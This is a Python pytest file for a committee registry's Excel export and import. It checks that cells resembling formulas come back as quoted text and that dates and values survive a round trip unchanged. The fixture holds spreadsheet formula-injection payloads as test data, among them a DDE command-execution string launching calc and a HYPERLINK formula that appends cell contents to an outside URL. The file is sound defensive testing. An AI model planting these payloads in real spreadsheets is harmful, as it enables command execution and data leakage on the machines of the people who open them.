"""Every registry table exported and read back unchanged: text that looks like a formula stays
text (never a live formula), dates stay dates even below a first row without one."""

import datetime
import io

import pytest
from openpyxl import load_workbook

from committees.excel_specs import CODES_SHEET
from committees.imports import TABLES, import_plan, table_export, table_template
from committees.models import Layer, Position, StationKind, TutoringStation, Volunteer, VolunteerTeam
from tests.committees.test_import_helpers import snapshot
from tests.factories import PersonFactory, PostFactory
from tests.libreoffice import sheets_as_csv
from tests.xlsx import assert_no_formula

HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
INJECTIONS = (HYPERLINK, "+1", "-2", "@SUM(A1)", DDE)
DATE_HEADERS = {"加入日期", "退出日期", "任职日期", "离任日期"}


@pytest.fixture
def registry(xs):
    """Rows of every table in 东港镇. The town's own rows come first in each export (its path sorts
    first) and have every optional cell blank; the villages' rows below have dates, and names,
    notes and the village's name that look like formulas."""
    xs.dg_v1.name = DDE
    xs.dg_v1.save(update_fields=["name"])
    joined = datetime.date(2013, 6, 13)  # 41438 as an Excel serial number

    blank = PersonFactory(code="P0001", name="张空白", five_old_category="")
    Volunteer.objects.create(person=blank, committee=xs.dg, layer=Layer.PARTICIPANT)
    PostFactory(committee=xs.dg, person=blank, position=Position.MEMBER)
    for number, text in enumerate(INJECTIONS, start=2):
        person = PersonFactory(code=f"P{number:04d}", name=text, former_post=text, notes=text, phone="+86 139")
        Volunteer.objects.create(
            person=person,
            committee=xs.dg_v1,
            layer=Layer.BACKBONE,
            joined_on=joined,
            exited_on=joined + datetime.timedelta(days=number),
            exit_reason=text,
        )
        PostFactory(committee=xs.dg_v1, person=person, position=Position.MEMBER, started_on=joined)
        VolunteerTeam.objects.create(committee=xs.dg_v1, name=text, founded_year=2001, service_content=text)

    VolunteerTeam.objects.create(committee=xs.dg, name="东港镇宣讲团")
    hub = TutoringStation.objects.create(committee=xs.dg_v1, name="@SUM(A1)", kind=StationKind.CENTRAL)
    TutoringStation.objects.create(
        committee=xs.dg_v1,
        name=HYPERLINK,
        kind=StationKind.POINT,
        hub=hub,
        linked_school=xs.dg_school,
        opened_year=2015,
        activities_per_year=12,
    )
    TutoringStation.objects.create(
        committee=xs.dg_v2, name="-2", kind=StationKind.CENTRAL, opened_year=2016, activities_per_year=4
    )
    return xs


@pytest.mark.parametrize("slug", sorted(TABLES))
def test_an_unchanged_export_reads_back_with_no_change_and_no_error(registry, slug):
    table = TABLES[slug]
    data = table_export(table, registry.dg, user=registry.dg_secretary)
    first = load_workbook(io.BytesIO(data))[table.spec().name]
    headers = [c.value for c in first[1]]
    assert [h for h, c in zip(headers, first[2], strict=True) if c.value is None], "the first row has blank cells"

    before = snapshot()
    plan = import_plan(table, user=registry.dg_secretary, data=data)
    assert [str(e) for e in plan.errors] == []
    assert (len(plan.new), len(plan.changed), len(plan.unchanged)) == (0, 0, plan.rows)
    assert plan.rows >= 3
    assert snapshot() == before


@pytest.mark.parametrize("slug", sorted(TABLES))
def test_text_that_looks_like_a_formula_is_written_as_text(registry, slug):
    table = TABLES[slug]
    for data in (
        table_export(table, registry.dg, user=registry.dg_secretary),
        table_template(table, registry.dg, user=registry.dg_secretary),
    ):
        assert_no_formula(data)
        book = load_workbook(io.BytesIO(data))
        codes = {row[1].value: row[1] for row in book[CODES_SHEET].iter_rows(min_row=2)}
        assert codes[DDE].data_type == "s"
    ws = load_workbook(io.BytesIO(table_export(table, registry.dg)))[table.spec().name]
    cells = [cell for row in ws.iter_rows(min_row=2) for cell in row if cell.value in INJECTIONS]
    assert len({cell.value for cell in cells}) >= 4
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value  # edited in a spreadsheet, it stays text


def test_dates_below_a_first_row_without_dates_keep_their_date_format(registry):
    for slug in ("volunteers", "people"):
        table = TABLES[slug]
        ws = load_workbook(io.BytesIO(table_export(table, registry.dg)))[table.spec().name]
        headers = [c.value for c in ws[1]]
        for index, header in enumerate(headers, start=1):
            if header not in DATE_HEADERS:
                continue
            assert ws.cell(2, index).value is None
            cells = [ws.cell(r, index) for r in range(3, ws.max_row + 1) if ws.cell(r, index).value is not None]
            for cell in cells:
                assert cell.is_date and cell.number_format == "yyyy-mm-dd", (header, cell.number_format)
            if header != "离任日期":  # only open posts are exported: 离任日期 stays blank
                assert cells, header


def test_libreoffice_shows_the_exported_text_as_typed(registry, tmp_path):
    source = tmp_path / "volunteers.xlsx"
    source.write_bytes(table_export(TABLES["volunteers"], registry.dg, user=registry.dg_secretary))
    sheets = sheets_as_csv(source, tmp_path)
    headers, *rows = sheets[TABLES["volunteers"].spec().name]
    by_name = {row[headers.index("姓名")]: dict(zip(headers, row, strict=True)) for row in rows}
    for text in INJECTIONS:
        assert by_name[text]["备注"] == by_name[text]["退出原因"] == text
        assert by_name[text]["单位名称"] == DDE
        assert by_name[text]["加入日期"] == "2013-06-13"
    assert by_name["张空白"]["加入日期"] == ""
    assert [DDE, "村"] in [row[1:] for row in sheets[CODES_SHEET]]
